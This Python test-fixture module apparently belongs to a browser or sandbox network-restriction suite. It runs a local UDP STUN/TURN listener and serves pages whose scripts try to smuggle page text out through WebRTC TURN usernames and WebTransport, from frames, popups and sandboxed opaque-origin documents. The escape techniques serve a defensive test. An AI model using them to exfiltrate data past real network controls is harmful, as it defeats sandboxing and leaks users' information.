"""Servers for the UDP escape tests: a STUN/TURN-speaking UDP listener that must receive nothing,
and an allowed site whose pages try to reach it with WebRTC (from the page, frames, popups and
sandboxed opaque-origin documents) and WebTransport, each telling the site whether its attempt
was made or refused."""

from __future__ import annotations

import base64
import html
import json
import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote, urlsplit

MAGIC = 0x2112A442
ALLOCATE, ALLOCATE_ERROR = 0x0003, 0x0113
USERNAME, ERROR_CODE, REALM, NONCE = 0x0006, 0x0009, 0x0014, 0x0015


@dataclass
class Datagrams:
    """What the UDP listener received: every datagram, and the TURN usernames decoded."""

    count: int = 0
    usernames: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def seen(self) -> int:
        with self.lock:
            return self.count

    def texts(self) -> list[str]:
        """The usernames as the pages wrote them (base64 of their text), decoded."""
        with self.lock:
            names = list(self.usernames)
        return [base64.b64decode(n + "==").decode("utf-8", "replace") for n in names]


def _attributes(packet: bytes) -> dict[int, bytes]:
    found, at = {}, 20
    while at + 4 <= len(packet):
        kind, size = struct.unpack_from("!HH", packet, at)
        found[kind] = packet[at + 4 : at + 4 + size]
        at += 4 + size + (-size % 4)
    return found


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)


def _challenge(request: bytes) -> bytes:
    """A TURN 401 with a realm and nonce, so the client sends its username on the retry."""
    body = (
        _attribute(ERROR_CODE, b"\0\0\x04\x01Unauthorized")
        + _attribute(REALM, b"test")
        + _attribute(NONCE, b"0123456789abcdef")
    )
    return struct.pack("!HHI", ALLOCATE_ERROR, len(body), MAGIC) + request[8:20] + body


def _serve_udp(sock: socket.socket, got: Datagrams, stop: threading.Event) -> None:
    while not stop.is_set():
        try:
            packet, peer = sock.recvfrom(65536)
        except OSError:
            continue  # the 0.2 s timeout: look at `stop` again
        attributes = _attributes(packet) if len(packet) >= 20 else {}
        with got.lock:
            got.count += 1
            if USERNAME in attributes:
                got.usernames.append(attributes[USERNAME].decode("latin-1"))
        is_stun = len(packet) >= 20 and struct.unpack_from("!I", packet, 4)[0] == MAGIC
        if is_stun and struct.unpack_from("!H", packet)[0] == ALLOCATE:
            if USERNAME not in attributes:
                sock.sendto(_challenge(packet), peer)


@contextmanager
def udp_listener() -> Iterator[tuple[int, Datagrams]]:
    """A UDP socket on 127.0.0.1 counting every datagram; yields its port and the count."""
    got, stop = Datagrams(), threading.Event()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.2)
    thread = threading.Thread(target=_serve_udp, args=(sock, got, stop), daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], got
    finally:
        stop.set()
        thread.join()
        sock.close()


# `attempt(kind, W)` opens a peer connection in window W with the listener as its STUN and TURN
# server (the TURN username carries the page's text) and reports to the site what happened; the
# report's URL is absolute, as a data: or blob: document has no base to resolve '/report' against.
_ATTEMPT_JS = """
function report(kind, result) {
  const query = 'kind=' + encodeURIComponent(kind) + '&result=' + encodeURIComponent(result);
  fetch('__BASE__/report?' + query);
}
async function attempt(kind, W) {
  try {
    const text = btoa(kind + ' ' + document.body.innerText);
    const pc = new W.RTCPeerConnection({iceServers: [
      {urls: 'stun:127.0.0.1:__PORT__'},
      {urls: 'turn:127.0.0.1:__PORT__?transport=udp', username: text, credential: 'x'}]});
    pc.createDataChannel('d');
    await pc.setLocalDescription(await pc.createOffer());
    (window.kept = window.kept || []).push(pc);
    report(kind, 'sent');
  } catch (e) { report(kind, 'refused: ' + e); }
}
function transport(kind) {
  try {
    const t = new WebTransport('https://127.0.0.1:__PORT__/x');
    t.ready.catch(() => 0);
    report(kind, 'sent');
  } catch (e) { report(kind, 'refused: ' + e); }
}
"""
_NEW_FRAME_JS = "const f = document.createElement('iframe'); document.body.append(f);"


def _page(kind: str, call: str) -> str:
    return f"<title>{kind}</title><p>secret text of {kind}</p><script>{call}</script>"


def _doc(kind: str, call: str) -> str:
    """A document of its own (a sandboxed frame's), loading the attempt functions by URL."""
    functions = "<script src='__BASE__/attempt.js'></script>"
    return f"{functions}<p>secret text of {kind}</p><script>{call}</script>"


def _sandboxed(doc: str, allow: str = "allow-scripts") -> str:
    """`doc` in a sandboxed srcdoc frame: an opaque origin, a document the page never loaded."""
    return f'<p>outer</p><iframe sandbox="{allow}" srcdoc="{html.escape(doc)}"></iframe>'


def _blob_frame(doc: str) -> str:
    """A script that shows `doc` in a sandboxed frame from a blob: URL it makes."""
    text = json.dumps(doc).replace("</", "<\\/")
    return (
        "<p>outer</p><script>const f = document.createElement('iframe');"
        f"f.sandbox = 'allow-scripts'; f.src = URL.createObjectURL(new Blob([{text}], "
        "{type: 'text/html'})); document.body.append(f);</script>"
    )


# kind -> (path, html); each page is served after the attempt functions, with __BASE__ the site.
KINDS = {
    "page": ("/page", _page("page", "attempt('page', window)")),
    "iframe": ("/iframe", "<p>frame</p><iframe src='/child?kind=iframe'></iframe>"),
    "about:blank iframe": (
        "/blank-iframe",
        _page(
            "about:blank iframe", _NEW_FRAME_JS + "attempt('about:blank iframe', f.contentWindow)"
        ),
    ),
    "frames[0]": ("/frames", _page("frames[0]", _NEW_FRAME_JS + "attempt('frames[0]', window[0])")),
    "popup": ("/popup", _page("popup", "window.open('/child?kind=popup')")),
    "about:blank popup": (
        "/blank-popup",
        _page("about:blank popup", "attempt('about:blank popup', window.open('about:blank'))"),
    ),
    "WebTransport": ("/webtransport", _page("WebTransport", "transport('WebTransport')")),
    "sandboxed srcdoc frame": (
        "/sandboxed-srcdoc",
        _sandboxed(_doc("sandboxed srcdoc frame", "attempt('sandboxed srcdoc frame', window)")),
    ),
    "sandboxed data: frame": (
        "/sandboxed-data",
        "<iframe sandbox='allow-scripts' src='data:text/html,"
        + quote(_doc("sandboxed data: frame", "attempt('sandboxed data: frame', window)"))
        + "'></iframe>",
    ),
    "sandboxed blob: frame": (
        "/sandboxed-blob",
        _blob_frame(_doc("sandboxed blob: frame", "attempt('sandboxed blob: frame', window)")),
    ),
    "nested sandboxed frame": (
        "/sandboxed-nested",
        _sandboxed(
            _sandboxed(_doc("nested sandboxed frame", "attempt('nested sandboxed frame', window)"))
        ),
    ),
    "sandboxed popup": (
        "/sandboxed-popup",
        _sandboxed(
            "<script>window.open('__BASE__/child?kind=sandboxed%20popup')</script>",
            "allow-scripts allow-popups",
        ),
    ),
    "sandboxed WebTransport": (
        "/sandboxed-webtransport",
        _sandboxed(_doc("sandboxed WebTransport", "transport('sandboxed WebTransport')")),
    ),
}
SANDBOXED_KINDS = [k for k in KINDS if k.startswith(("sandboxed", "nested"))]
CHILD = "<p>secret text of the child</p><script>attempt(KIND, window)</script>"


@dataclass
class Site:
    base: str
    reports: list[tuple[str, str]]  # (kind, "sent" or "refused: ...") as the pages told

    def url(self, kind: str) -> str:
        return self.base + KINDS[kind][0]


@contextmanager
def attempt_site(udp_port: int) -> Iterator[Site]:
    """The allowed site serving KINDS' pages; yields it with the reports its pages sent."""
    reports: list[tuple[str, str]] = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    script = _ATTEMPT_JS.replace("__PORT__", str(udp_port)).replace("__BASE__", base)
    js = "<script>" + script + "</script>"
    pages = {path: js + page.replace("__BASE__", base) for path, page in KINDS.values()}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            parts = urlsplit(self.path)
            query = {k: v[0] for k, v in parse_qs(parts.query).items()}
            content_type = "text/html"
            if parts.path == "/report":
                reports.append((query.get("kind", ""), query.get("result", "")))
                text = ""
            elif parts.path == "/attempt.js":
                text, content_type = script, "text/javascript"
            elif parts.path == "/child":
                text = js + CHILD.replace("KIND", repr(query.get("kind", "child")))
            else:
                text = pages.get(parts.path, "<title>Start</title><p>start</p>")
            body = text.encode()
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server.RequestHandlerClass = Handler
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Site(base, reports)
    finally:
        server.shutdown()
        server.server_close()
